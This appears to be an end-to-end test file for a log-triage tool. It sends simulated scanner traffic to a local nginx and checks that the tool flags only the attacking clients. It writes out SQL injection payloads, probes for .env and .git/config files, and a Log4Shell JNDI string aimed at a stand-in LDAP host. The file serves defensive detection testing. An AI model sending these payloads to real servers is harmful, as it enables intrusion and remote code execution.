"""Scanner and injection traffic against a real nginx: S002 names the attackers, and only them.

The answered count is checked against what the real server answered: an exposed ``.env``
under the static root is served with 200 by nginx itself, injection payloads reach the app.
"""

from __future__ import annotations

import os
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from logtriage import api
from logtriage.model.finding import Finding

from .planted_app import serve_app
from .traffic import USER_AGENTS, PlannedRequest, send_one
from .webservers import ServerUnavailable, nginx_server

pytestmark = pytest.mark.e2e

SQLMAP = ("203.0.113.50", "sqlmap/1.8.2#stable (https://sqlmap.org)")
DOTFILES = ("203.0.113.51", USER_AGENTS[1])
LOG4SHELL = ("203.0.113.52", "${jndi:ldap://203.0.113.52:1389/a}")
BROWSERS = [f"10.9.0.{i}" for i in range(1, 21)]

PROBES: dict[tuple[str, str], list[str]] = {
    SQLMAP: [
        "/search?q=1%27%20OR%20%271%27%3D%271",
        "/search?q=1%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-",
        "/search?q=1%27%20AND%20SLEEP(5)--%20x",
        "/api/orders/1%20AND%201%3D1",
    ],
    DOTFILES: ["/static/.env", "/.git/config", "/wp-login.php", "/vendor/phpunit/phpunit/x.php"],
    LOG4SHELL: ["/"],
}
ORDINARY = ["/", "/search?q=select+a+jacket", "/search?q=union+station", "/cart", "/products/x"]


def _send(port: int, client: str, agent: str, target: str) -> int:
    return send_one(port, PlannedRequest("GET", target, "", 0, client, agent))


@pytest.fixture(scope="module")
def scanned() -> Iterator[tuple[Path, dict[tuple[str, str], list[int]]]]:
    """nginx in front of the planted app, hit by three attackers and twenty browsers."""
    root = Path(tempfile.mkdtemp(prefix="logtriage-e2e-s002-"))
    try:
        with serve_app() as app_port:
            try:
                server = nginx_server(root, app_port)
            except ServerUnavailable as exc:
                if os.environ.get("LOGTRIAGE_SKIP_E2E") == "1":
                    pytest.skip(f"{exc} and LOGTRIAGE_SKIP_E2E=1")
                pytest.fail(f"{exc}: run `make system`", pytrace=False)
            # A secrets file left in the static root: nginx serves it to whoever asks.
            env = root / "www" / "static" / ".env"
            env.write_text("DATABASE_URL=postgres://app@db/shop\n")
            env.chmod(0o644)
            server.start()
            try:
                seen: dict[tuple[str, str], list[int]] = {}
                for attacker, targets in PROBES.items():
                    seen[attacker] = [_send(server.port, *attacker, t) for t in targets]
                for client in BROWSERS:
                    for target in ORDINARY:
                        _send(server.port, client, USER_AGENTS[0], target)
            finally:
                server.stop()
            log = Path(tempfile.mkdtemp(prefix="logtriage-e2e-s002-log-")) / "access.log"
            shutil.copyfile(server.access_logs["timed"], log)
        yield log, seen
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _s002(log: Path) -> dict[str, Finding]:
    report = api.analyze([str(log)])
    return {f.evidence["client"]: f for f in report.findings if f.code == "S002"}


def test_attackers_are_named_and_browsers_are_not(
    scanned: tuple[Path, dict[tuple[str, str], list[int]]],
) -> None:
    log, _ = scanned
    findings = _s002(log)
    assert set(findings) == {SQLMAP[0], DOTFILES[0], LOG4SHELL[0]}
    assert findings[SQLMAP[0]].evidence["scanners"] == ["sqlmap"]
    assert findings[SQLMAP[0]].evidence["kinds"]["sqli"] == len(PROBES[SQLMAP])
    assert findings[LOG4SHELL[0]].evidence["kinds"] == {"rce": 1}


def test_answered_counts_match_what_the_server_answered(
    scanned: tuple[Path, dict[tuple[str, str], list[int]]],
) -> None:
    log, seen = scanned
    findings = _s002(log)
    assert seen[DOTFILES][0] == 200, "nginx serves the planted .env"
    for attacker in (SQLMAP, DOTFILES):
        answered = sum(1 for status in seen[attacker] if 200 <= status < 300)
        finding = findings[attacker[0]]
        assert finding.evidence["answered_2xx"] == answered
        assert (finding.severity.value == "high") is (answered > 0)
    # The Log4Shell payload rode in a header: the page's ordinary 200 is not an answer to it.
    assert findings[LOG4SHELL[0]].evidence["answered_2xx"] == 0
    # The exposed file ranks first.
    report = api.analyze([str(log)])
    first = next(f for f in report.findings if f.code == "S002")
    assert first.evidence["answered_2xx"] > 0
